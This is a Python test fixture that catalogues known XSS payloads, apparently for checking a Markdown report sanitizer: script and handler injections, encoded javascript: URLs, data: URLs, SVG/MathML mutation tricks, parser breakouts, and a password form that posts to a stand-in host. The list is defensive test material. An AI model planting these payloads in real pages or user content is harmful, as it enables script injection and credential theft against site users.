"""Known XSS vectors, as an editor could paste them into a report's Markdown.

Every payload calls a marker that makes execution observable in a browser: `XSS()` in a
template becomes `top.__xss=/<id>/.source,alert(/<id>/.source)` (a global, and a dialog
whose message is the vector's id), and `XSS_URL` becomes `//xss.invalid/<id>` (a request to
a host that must never be asked for anything). Base64 forms are computed, so the encoded
payload carries the same marker.

`unclosed` marks a vector that leaves an element open: everything after it in the same
report ends up inside that element, so the browser test gives it a report of its own.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass

CATEGORIES = (
    "script",
    "style",
    "embedded",
    "handler",
    "javascript-url",
    "data-url",
    "svg",
    "mathml",
    "document",
    "form",
    "parser",
    "markdown",
    "link",
)


@dataclass(frozen=True)
class Vector:
    id: str
    category: str
    payload: str
    unclosed: bool = False


def _js(vector_id: str) -> str:
    # A regular-expression literal names the vector without quotes, which would end a
    # Markdown link's URL and start its title.
    marker = f"/{vector_id}/.source"
    return f"top.__xss={marker},alert({marker})"


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _vector(vector_id: str, category: str, template: str, *, unclosed: bool = False) -> Vector:
    assert category in CATEGORIES, category
    js = _js(vector_id)
    payload = (
        template.replace("B64_HTML", _b64(f"<script>{js}</script>"))
        .replace("B64_SVG", _b64(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js}"/>'))
        .replace("XSS()", js)
        .replace("XSS_URL", f"//xss.invalid/{vector_id}")
    )
    return Vector(vector_id, category, payload, unclosed)


VECTORS: tuple[Vector, ...] = (
    # <script> in every spelling
    _vector("script-plain", "script", "<script>XSS()</script>"),
    _vector("script-mixed-case", "script", "<ScRiPt>XSS()</sCrIpT>"),
    _vector("script-unclosed", "script", "<script>XSS()", unclosed=True),
    _vector("script-split-tag", "script", "<scr<script>ipt>XSS()</scr</script>ipt>"),
    _vector("script-src", "script", '<script src="XSS_URL"></script>'),
    _vector("script-src-data", "script", '<script src="data:text/javascript,XSS()"></script>'),
    _vector("script-slash-attribute", "script", '<script/x src="data:,XSS()"></script>'),
    _vector("script-in-attribute", "script", '<p title="</p><script>XSS()</script>">段落</p>'),
    _vector(
        "script-in-table-cell", "script", "<table><tr><td><script>XSS()</script></td></tr></table>"
    ),
    _vector("script-inline-in-text", "script", "正文中间<script>XSS()</script>继续"),
    # CSS
    _vector("style-element", "style", '<style>@import "XSS_URL";</style>'),
    _vector("style-attribute-url", "style", '<p style="background:url(XSS_URL)">背景</p>'),
    _vector("style-expression", "style", '<p style="width:expression(XSS())">表达式</p>'),
    _vector(
        "style-cell-smuggled-url",
        "style",
        '<table><tr><td style="text-align:center;background-image:url(XSS_URL)">1</td>'
        "</tr></table>",
    ),
    _vector(
        "style-cell-alignment-url",
        "style",
        '<table><tr><td style="text-align:url(XSS_URL)">1</td></tr></table>',
    ),
    _vector("link-stylesheet", "style", '<link rel="stylesheet" href="XSS_URL">'),
    _vector("link-prefetch", "style", '<link rel="prefetch" href="XSS_URL">'),
    # frames, plugins, media
    _vector("iframe-src-javascript", "embedded", '<iframe src="javascript:XSS()"></iframe>'),
    _vector("iframe-src-external", "embedded", '<iframe src="XSS_URL"></iframe>'),
    _vector(
        "iframe-srcdoc",
        "embedded",
        '<iframe srcdoc="&lt;script&gt;XSS()&lt;/script&gt;"></iframe>',
    ),
    _vector("object-data", "embedded", '<object data="data:text/html;base64,B64_HTML"></object>'),
    _vector("embed-src", "embedded", '<embed src="javascript:XSS()">'),
    _vector("frameset", "embedded", '<frameset><frame src="javascript:XSS()"></frameset>'),
    _vector("img-srcset", "embedded", '<img src="a.png" srcset="XSS_URL 2x" alt="图">'),
    _vector(
        "picture-source-srcset",
        "embedded",
        '<picture><source srcset="XSS_URL"><img src="a.png" alt="图"></picture>',
    ),
    _vector("video-poster", "embedded", '<video poster="XSS_URL"></video>'),
    # event handlers
    _vector("img-onerror", "handler", '<img src=x onerror="XSS()">'),
    _vector("img-onerror-mixed-case", "handler", "<IMG SRC=x OnErRoR=XSS()>"),
    _vector("img-slash-separators", "handler", '<img/src="x"/onerror="XSS()">'),
    _vector("img-newline-before-handler", "handler", "<img src=x\nonerror=XSS()>"),
    _vector("svg-onload", "handler", '<svg onload="XSS()">', unclosed=True),
    _vector("body-onload", "handler", '<body onload="XSS()">'),
    _vector(
        "details-ontoggle",
        "handler",
        '<details open ontoggle="XSS()"><summary>详情</summary>内容</details>',
    ),
    _vector("input-autofocus-onfocus", "handler", '<input autofocus onfocus="XSS()">'),
    _vector("video-source-onerror", "handler", '<video><source onerror="XSS()"></video>'),
    _vector("audio-onerror", "handler", '<audio src=x onerror="XSS()"></audio>'),
    _vector("p-onmouseover", "handler", '<p onmouseover="XSS()">悬停</p>'),
    _vector("a-onclick", "handler", '<a href="#" onclick="XSS()">点击</a>'),
    _vector("marquee-onstart", "handler", '<marquee onstart="XSS()">滚动</marquee>'),
    _vector("handler-without-space", "handler", '<a href="#"onclick="XSS()">无空格</a>'),
    _vector("a-ping", "handler", '<a href="#" ping="XSS_URL">跟踪</a>'),
    # javascript: and friends
    _vector("a-javascript", "javascript-url", '<a href="javascript:XSS()">链接</a>'),
    _vector("a-javascript-mixed-case", "javascript-url", '<a href="JaVaScRiPt:XSS()">链接</a>'),
    _vector("a-javascript-entity", "javascript-url", '<a href="&#106;avascript:XSS()">链接</a>'),
    _vector(
        "a-javascript-hex-entities",
        "javascript-url",
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;XSS()">'
        "链接</a>",
    ),
    _vector(
        "a-javascript-padded-entities",
        "javascript-url",
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
        '&#0000112&#0000116&#0000058XSS()">链接</a>',
    ),
    _vector("a-javascript-tab", "javascript-url", '<a href="jav&#x09;ascript:XSS()">链接</a>'),
    _vector("a-javascript-newline", "javascript-url", '<a href="jav&#x0A;ascript:XSS()">链接</a>'),
    _vector(
        "a-javascript-leading-control",
        "javascript-url",
        '<a href=" &#14; javascript:XSS()">链接</a>',
    ),
    _vector(
        "a-javascript-named-colon", "javascript-url", '<a href="javascript&colon;XSS()">链接</a>'
    ),
    _vector("a-vbscript", "javascript-url", '<a href="vbscript:XSS()">链接</a>'),
    _vector("img-src-javascript", "javascript-url", '<img src="javascript:XSS()" alt="图">'),
    # data: URLs
    _vector("a-data-html", "data-url", '<a href="data:text/html,<script>XSS()</script>">链接</a>'),
    _vector("a-data-base64", "data-url", '<a href="data:text/html;base64,B64_HTML">链接</a>'),
    _vector("img-data-svg", "data-url", '<img src="data:image/svg+xml;base64,B64_SVG" alt="图">'),
    # SVG
    _vector("svg-script", "svg", "<svg><script>XSS()</script></svg>"),
    _vector(
        "svg-animate-href",
        "svg",
        '<svg><a><animate attributeName="href" values="javascript:XSS()"/>'
        '<text x="20" y="20">点我</text></a></svg>',
    ),
    _vector(
        "svg-foreignobject",
        "svg",
        '<svg><foreignObject><img src=x onerror="XSS()"></foreignObject></svg>',
    ),
    _vector("svg-use-data", "svg", '<svg><use href="data:image/svg+xml;base64,B64_SVG#x"/></svg>'),
    _vector(
        "svg-style-mxss",
        "svg",
        '<svg></p><style><a id="</style><img src=1 onerror=XSS()>">',
        unclosed=True,
    ),
    # MathML
    _vector(
        "math-mglyph-mxss",
        "mathml",
        '<math><mtext><table><mglyph><style><img src=x onerror="XSS()">',
        unclosed=True,
    ),
    _vector(
        "math-mglyph-svg-mxss",
        "mathml",
        '<math><mtext><table><mglyph><svg><mtext><style><path id="</style>'
        '<img onerror=XSS() src>">',
        unclosed=True,
    ),
    _vector("math-href", "mathml", '<math href="javascript:XSS()"><mi>x</mi></math>'),
    _vector(
        "math-maction",
        "mathml",
        '<math><maction actiontype="statusline" xlink:href="javascript:XSS()">x</maction></math>',
    ),
    # what changes the whole document
    _vector("base-href-external", "document", '<base href="XSS_URL/">'),
    _vector("base-href-javascript", "document", '<base href="javascript:XSS()//">'),
    _vector(
        "meta-refresh-javascript",
        "document",
        '<meta http-equiv="refresh" content="0;url=javascript:XSS()">',
    ),
    _vector(
        "meta-refresh-data",
        "document",
        '<meta http-equiv="refresh" content="0;url=data:text/html;base64,B64_HTML">',
    ),
    _vector(
        "meta-refresh-external", "document", '<meta http-equiv="refresh" content="0;url=XSS_URL">'
    ),
    # forms
    _vector(
        "form-action-javascript",
        "form",
        '<form action="javascript:XSS()"><button>提交</button></form>',
    ),
    _vector(
        "button-formaction",
        "form",
        '<form><button formaction="javascript:XSS()">提交</button></form>',
    ),
    _vector(
        "input-formaction",
        "form",
        '<form id="f"></form><input form="f" type="submit" formaction="javascript:XSS()" '
        'value="提交">',
    ),
    _vector(
        "form-phishing",
        "form",
        '<form action="XSS_URL" method="post"><input name="password" type="password">'
        "<button>登录</button></form>",
    ),
    _vector("isindex", "form", "<isindex type=image src=1 onerror=XSS()>"),
    # parser tricks: comments, CDATA, raw-text elements, attribute quoting
    _vector("comment-breakout", "parser", '<!--><img src=x onerror="XSS()">-->'),
    _vector("comment-bang-breakout", "parser", '<!--!><img src=x onerror="XSS()">-->'),
    _vector(
        "comment-conditional",
        "parser",
        "<!--[if gte IE 4]><script>XSS()</script><![endif]-->",
    ),
    _vector("cdata-breakout", "parser", '<![CDATA[><img src=x onerror="XSS()">]]>'),
    _vector(
        "svg-cdata",
        "parser",
        '<svg><![CDATA[</svg><img src=x onerror="XSS()">]]></svg>后文',
    ),
    _vector(
        "noscript-breakout",
        "parser",
        '<noscript><p title="</noscript><img src=x onerror=XSS()>"></noscript>',
    ),
    _vector(
        "textarea-breakout",
        "parser",
        '<textarea><p title="</textarea><img src=x onerror=XSS()>"></textarea>',
    ),
    _vector(
        "title-breakout", "parser", '<title><p title="</title><img src=x onerror=XSS()>"></title>'
    ),
    _vector("xmp-breakout", "parser", '<xmp><p title="</xmp><img src=x onerror=XSS()>"></xmp>'),
    _vector("backtick-attribute", "parser", "<img src=`x` onerror=`XSS()`>"),
    _vector(
        "quote-breaking-title",
        "parser",
        '<a title=\'x" onmouseover="XSS()\' href="#">引号</a>',
    ),
    # Markdown syntax that produces links and images
    _vector("md-link-javascript", "markdown", "[相关说明](javascript:XSS())"),
    _vector("md-link-javascript-upper", "markdown", "[相关说明](JAVASCRIPT:XSS())"),
    _vector("md-link-javascript-angle", "markdown", "[相关说明](<javascript:XSS()>)"),
    _vector("md-link-javascript-entity", "markdown", "[相关说明](&#106;avascript:XSS())"),
    _vector("md-image-javascript", "markdown", "![图](javascript:XSS())"),
    _vector("md-link-data", "markdown", "[相关说明](data:text/html;base64,B64_HTML)"),
    _vector("md-image-data-svg", "markdown", "![图](data:image/svg+xml;base64,B64_SVG)"),
    _vector("md-link-vbscript", "markdown", "[相关说明](vbscript:XSS())"),
    _vector("md-autolink-javascript", "markdown", "<javascript:XSS()>"),
    _vector("md-reference-javascript", "markdown", "[相关说明][js]\n\n[js]: javascript:XSS()"),
    _vector(
        "md-reference-image-data", "markdown", "![图][img]\n\n[img]: data:text/html;base64,B64_HTML"
    ),
    _vector(
        "md-link-title-breakout",
        "markdown",
        '[相关说明](https://example.org/ "x\\" onmouseover=\\"XSS()")',
    ),
    _vector("md-attr-list-handler", "markdown", '带属性的段落\n{: onclick="XSS()" }'),
    _vector("md-attr-list-href", "markdown", '[相关说明](#x){: href="javascript:XSS()" }'),
    _vector("md-attr-list-style", "markdown", '带样式的段落\n{: style="background:url(XSS_URL)" }'),
    # allowed: a link to another site stays a link, and nothing fetches it
    _vector("link-to-other-site", "link", '<a href="https://evil.example/">其他网站</a>'),
    _vector("md-link-to-other-site", "link", "[其他网站](https://evil.example/)"),
)
